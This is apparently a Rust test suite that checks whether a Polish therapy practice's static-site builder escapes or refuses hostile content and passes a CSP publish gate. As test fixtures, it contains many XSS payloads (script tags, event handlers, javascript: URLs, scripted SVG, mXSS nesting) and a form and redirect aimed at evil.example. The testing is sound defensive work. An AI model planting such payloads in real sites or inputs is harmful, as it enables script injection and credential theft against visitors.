//! Hostile content through the real pipeline: file names, front matter, Markdown with raw
//! HTML and entities, SVG pictures and YAML values written to run a script on the patients'
//! site. What `make check` refuses is refused naming the file; the rest is built and
//! published, and the publish gate finds nothing in it — every page holds only what the
//! templates write, and its policy lists only the templates' own scripts. A template broken
//! on purpose is caught by the gate, at the content that would have run.

use std::collections::BTreeSet;
use std::path::Path;

use crate::common::Fixture;

/// An article whose every field and paragraph tries to get markup of its own onto the page.
const ARTICLE: &str = r#"---
title: "Sen \"><script>alert(1)</script> i nastrój `x`"
description: "Jak sen wpływa na nastrój \" onfocus=\"alert(1)\" autofocus x=\" – krótki przewodnik gabinetu dla osób, które śpią za mało i czują to w ciągu dnia."
excerpt: "Krótko o śnie </script><script>alert(2)</script> i nastroju."
date: "2025-07-01"
image: "wzgorza.svg"
image_alt: "Wzgórza \" onerror=\"alert(3)\" ` ' <img src=x onerror=alert(4)>"
author: "Magdalena Wiśniewska"
---
Sen porządkuje emocje dnia <script>alert(5)</script> i <img src="x" onerror="alert(6)">.

<a href="javascript:alert(7)">link</a> <a href="&#106;avascript:alert(8)">encja</a> <a href=" JaVaScRiPt:alert(9)">spacja</a> <a href="data:text/html,&lt;script&gt;alert(10)&lt;/script&gt;">dane</a>

<svg onload="alert(11)"><circle r="1"/></svg> <iframe src="https://evil.example/"></iframe> <style>body{background:url(https://evil.example/x)}</style> <object data="x.swf"></object>

<a title="￼0￼">znak obiektu</a> &lt;script&gt;alert(12)&lt;/script&gt; &#x3C;img src=x onerror=alert(13)&#x3E;

<math><mtext><table><mglyph><style><img src=x onerror=alert(14)></style></mglyph></table></mtext></math>

<form action="https://evil.example/"><input name="haslo"></form> <meta http-equiv="refresh" content="0;url=https://evil.example/"> <base href="https://evil.example/">

<div title="

![Morze o świcie](swit.svg)

">podpis</div>

<p style="position:fixed" onmouseover="alert(15)">styl</p>
"#;

/// A picture that tries to run a script when it is opened on the site's origin.
const SCRIPTED_SVG: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\" onload=\"alert(16)\">\n<script>alert(17)</script>\n<rect width=\"10\" height=\"10\"/>\n</svg>\n";

fn corpus(site: &Fixture) {
    site.write("content/blog/sen-i-nastroj.md", ARTICLE);
    site.write("content/images/skrypt.svg", SCRIPTED_SVG);
    // YAML values: the practice's tagline and the notice every page shows.
    site.edit(
        "content/site.yaml",
        "tagline: \"Gabinet psychologiczny w Gdańsku\"",
        "tagline: \"Gabinet \\\"><script>alert(18)</script> w Gdańsku `'\"",
    );
}

/// Every page of `dir`, by its path under it.
fn pages(dir: &Path) -> Vec<(String, String)> {
    walkdir::WalkDir::new(dir)
        .into_iter()
        .flatten()
        .filter(|e| e.path().extension().is_some_and(|x| x == "html"))
        .map(|e| {
            let path = e
                .path()
                .strip_prefix(dir)
                .expect("under")
                .display()
                .to_string();
            (path, std::fs::read_to_string(e.path()).expect("a page"))
        })
        .collect()
}

/// The CSP hashes of the templates' inline scripts, worked out here from their sources.
fn template_hashes(templates: &Path) -> BTreeSet<String> {
    let mut hashes = BTreeSet::new();
    for entry in walkdir::WalkDir::new(templates).into_iter().flatten() {
        let text = std::fs::read_to_string(entry.path()).unwrap_or_default();
        for piece in text.split("<script>").skip(1) {
            let body = piece.split("</script>").next().expect("closed");
            let digest = <sha2::Sha256 as sha2::Digest>::digest(body.as_bytes());
            let encoded =
                base64::Engine::encode(&base64::engine::general_purpose::STANDARD, digest);
            hashes.insert(format!("'sha256-{encoded}'"));
        }
    }
    hashes
}

#[test]
fn a_hostile_corpus_is_built_published_and_passes_the_gate() {
    let site = Fixture::real_site();
    corpus(&site);
    let out = site.path("dist");
    let report = site::build(&site.project(), &out).expect("the corpus builds and publishes");
    // The picture that runs a script is left out of the site, named.
    assert!(!out.join("images/skrypt.svg").exists());
    assert!(
        report
            .warnings
            .iter()
            .any(|w| w.file.ends_with("images/skrypt.svg")
                && w.polish(&site.path("content"), None)
                    .contains("może tylko rysować")),
        "{:#?}",
        report.warnings
    );
    // Every published page holds only what the templates write.
    let hashes = template_hashes(&site.path("templates"));
    assert_eq!(hashes.len(), 1, "base.html's one inline script");
    let published = pages(&out);
    assert!(published.len() > 30);
    for (path, html) in &published {
        let findings = site::gate::check(html, &hashes);
        assert!(findings.is_empty(), "{path}: {findings:#?}");
    }
    let (_, article) = published
        .iter()
        .find(|(p, _)| p == "blog/sen-i-nastroj/index.html")
        .expect("the article is published");
    assert!(
        article
            .contains("Sen &quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt; i nastrój &#96;x&#96;"),
        "the title is text"
    );
    assert!(
        article.contains("&lt;script&gt;alert(12)&lt;/script&gt;"),
        "entities stay text"
    );
    assert!(
        article.contains("podpis"),
        "the text around a picture stays"
    );
    // The policy allows the templates' script and no other inline code.
    let csp = site::headers::header_value(
        &report.headers,
        "/blog/sen-i-nastroj",
        "Content-Security-Policy",
    )
    .expect("a policy");
    let listed: BTreeSet<String> = csp
        .split_whitespace()
        .filter(|w| w.starts_with("'sha256-"))
        .map(|w| w.trim_end_matches(';').to_string())
        .collect();
    assert_eq!(listed, hashes, "{csp}");
    assert!(
        !csp.contains("unsafe-inline") && csp.contains("script-src-attr 'none'"),
        "{csp}"
    );
}

#[test]
fn hostile_file_names_are_refused_by_the_check_naming_each_file() {
    let site = Fixture::real_site();
    let names = [
        "a\"><script x=`;gt=0;x=0>alert(document.domain);String.raw`.png",
        "q\" onmouseover=\"alert(1)\" x=\".png",
        "q autofocus tabindex=1 onfocus=alert(document.domain) x.svg",
    ];
    let png = std::fs::read(site.path("content/images/og-harmonia.png")).expect("a png");
    for name in names {
        site.write_bytes(&format!("content/images/{name}"), &png);
    }
    let problems = site.problems();
    for name in names {
        assert!(
            problems
                .iter()
                .any(|d| d.file.ends_with(format!("images/{name}"))
                    && d.polish(&site.path("content"), None)
                        .contains("jest niedozwolona")),
            "{name}: {problems:#?}"
        );
    }
}

#[test]
fn a_template_that_writes_a_value_unescaped_is_caught_by_the_gate_at_the_content() {
    let site = Fixture::real_site();
    let out = site.path("dist");
    site::build(&site.project(), &out).expect("the site builds");
    let before = std::fs::read_link(&out).expect("dist is a link to the live build");
    // The template broken on purpose: the description written raw into an attribute.
    site.edit(
        "templates/base.html",
        "<meta name=\"description\" content=\"{{ page.description }}\">",
        "<meta name=\"description\" content=\"{{ page.description | safe }}\">",
    );
    site.write("content/blog/sen-i-nastroj.md", ARTICLE);
    let error = site::build(&site.project(), &out).expect_err("the gate refuses the build");
    let problems = error.diagnostics();
    let line = site.line_of("content/blog/sen-i-nastroj.md", "description:");
    assert!(
        problems
            .iter()
            .any(|d| d.file.ends_with("blog/sen-i-nastroj.md")
                && d.line == line
                && d.polish(&site.path("content"), None)
                    .contains("obsługę zdarzenia „onfocus”")),
        "{problems:#?}"
    );
    assert_eq!(
        std::fs::read_link(&out).expect("still a link"),
        before,
        "nothing was published"
    );
}

#[test]
fn a_foreign_script_host_in_site_yaml_is_refused_with_the_reason() {
    let site = Fixture::real_site();
    let telephony = "telephony:\n  provider: \"callpage\"\n";
    site.edit(
        "content/site.yaml",
        telephony,
        "telephony_widget_src: \"http://127.0.0.1:8099/cp.js\"\ntelephony:\n  provider: \"callpage\"\n",
    );
    let problems = site.problems();
    let line = site.line_of("content/site.yaml", "telephony_widget_src");
    assert!(
        problems.iter().any(|d| d.line == line
            && d.polish(&site.path("content"), None)
                .contains("ustala operator serwera")),
        "{problems:#?}"
    );
    // Naming a host as the provider is no better.
    let site = Fixture::real_site();
    site.edit(
        "content/site.yaml",
        "provider: \"callpage\"",
        "provider: \"http://127.0.0.1:8099/cp.js\"",
    );
    let problems = site.problems();
    let line = site.line_of("content/site.yaml", "127.0.0.1:8099");
    assert!(
        problems.iter().any(|d| d.line == line
            && d.polish(&site.path("content"), None)
                .contains("nie jest dostawcą")),
        "{problems:#?}"
    );
}
